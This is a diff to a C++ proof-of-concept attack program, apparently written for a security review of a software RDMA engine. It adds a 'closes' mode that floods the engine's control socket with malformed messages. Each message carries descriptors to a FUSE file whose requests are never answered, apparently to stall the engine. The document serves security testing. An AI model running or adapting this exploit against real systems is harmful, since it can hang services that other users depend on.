@@ -1,6 +1,6 @@
 // Issue 40, item 1: memory whose pages a user's FUSE daemon serves, under an MR. Run as
 // an unprivileged user:
-//   fuse_memory_attack DEVICE MOUNT_DIR [swap|pipe]
+//   fuse_memory_attack DEVICE MOUNT_DIR [swap|pipe|closes]
 // A child enters a user and mount namespace of its own, mounts a FUSE filesystem of its
 // own making on MOUNT_DIR (straight through /dev/fuse) and serves it: one 64 KiB file,
 // whose READ it never answers. It hands the open file to the parent (SCM_RIGHTS), which
@@ -23,6 +23,12 @@
 //                                        this program
 // The FUSE daemon prints "fuse: READ asked" and "fuse: FLUSH asked" for the requests it
 // never answers.
+//
+// "closes" mode: the file goes to the engine 2 x kClosesMessages times, two descriptors
+// of it with each of kClosesMessages malformed control messages on one connection
+// (SOCK_SEQPACKET, as the provider's). The engine answers each with an error and closes
+// the descriptors it was given, and each close asks the daemon to FLUSH. Printed:
+// "closes: sent N" (the messages the engine's socket took), then "holding".
 #include "attack_verbs.hpp"
 #include "raw_migrate_id.hpp"
 #include "softhca/device_interface/socket_io.hpp"
@@ -32,6 +38,7 @@
 #include <csignal>
 #include <cstdint>
 #include <cstdio>
+#include <cstdlib>
 #include <cstring>
 #include <fcntl.h>
 #include <linux/fuse.h>
@@ -45,6 +52,7 @@
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/uio.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 #include <thread>
 #include <unistd.h>
@@ -353,6 +361,41 @@ void exchange(ibv_qp* receiver, ibv_qp* sender, ibv_mr* mr, ibv_cq* cq) {
     }
 }
 
+// The "closes" mode: kClosesMessages messages of 8 bytes (no valid request) on a raw
+// control connection of DEVICE's engine, each with two descriptors of `file`.
+constexpr int kClosesMessages = 1000;
+void send_closes(const char* device, int file) {
+    const char* sysfs = std::getenv("SYSFS_PATH");
+    if (!sysfs)
+        attack::die("SYSFS_PATH (run under softhca exec)");
+    FILE* in = std::fopen(
+        (std::string(sysfs) + "/class/infiniband/" + device + "/softhca_engine_socket").c_str(),
+        "r");
+    char path[sizeof(sockaddr_un::sun_path)] = {};
+    if (!in || !std::fgets(path, sizeof(path), in))
+        attack::die("the engine's socket path");
+    std::fclose(in);
+    path[std::strcspn(path, "\n")] = '\0';
+    const int engine = ::socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
+    sockaddr_un address{};
+    address.sun_family = AF_UNIX;
+    std::memcpy(address.sun_path, path, sizeof(path));
+    if (engine < 0 ||
+        ::connect(engine, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0)
+        attack::die("connect to the engine");
+    // The engine's replies are never read; its socket takes what it will, each send
+    // waits at most a second for room.
+    const timeval second{1, 0};
+    ::setsockopt(engine, SOL_SOCKET, SO_SNDTIMEO, &second, sizeof(second));
+    const uint64_t garbage = 0;
+    int sent = 0;
+    while (sent < kClosesMessages &&
+           softhca::device_interface::send_message(engine, &garbage, sizeof(garbage), file, file) ==
+               sizeof(garbage))
+        ++sent;
+    std::printf("closes: sent %d\n", sent);
+}
+
 // The "pipe" mode: a completion channel whose reader holds the pipe's lock on a FUSE page.
 // One event waits in the channel; a thread reads it into the FUSE file mapped privately,
 // and the copy asks the daemon for the page with the pipe's lock held. The CQ is armed
@@ -423,8 +466,9 @@ void hold_channel(const attack::Side& side, int file) {
 int main(int argc, char** argv) {
     const bool swap = argc == 4 && std::strcmp(argv[3], "swap") == 0;
     const bool pipe = argc == 4 && std::strcmp(argv[3], "pipe") == 0;
-    if (argc != 3 && !swap && !pipe) {
-        std::fprintf(stderr, "usage: %s DEVICE MOUNT_DIR [swap|pipe]\n", argv[0]);
+    const bool closes = argc == 4 && std::strcmp(argv[3], "closes") == 0;
+    if (argc != 3 && !swap && !pipe && !closes) {
+        std::fprintf(stderr, "usage: %s DEVICE MOUNT_DIR [swap|pipe|closes]\n", argv[0]);
         return 2;
     }
     int channel[2];
@@ -443,6 +487,13 @@ int main(int argc, char** argv) {
     std::printf("daemon: %d\n", static_cast<int>(child));
     std::fflush(stdout);
     const int file = receive_file(channel[0]);
+    if (closes) {
+        send_closes(argv[1], file);
+        std::printf("holding\n");
+        std::fflush(stdout);
+        for (;;)
+            ::pause();
+    }
     const attack::Side side = attack::open_side(argv[1]);
     if (swap || pipe) {
         if (swap)
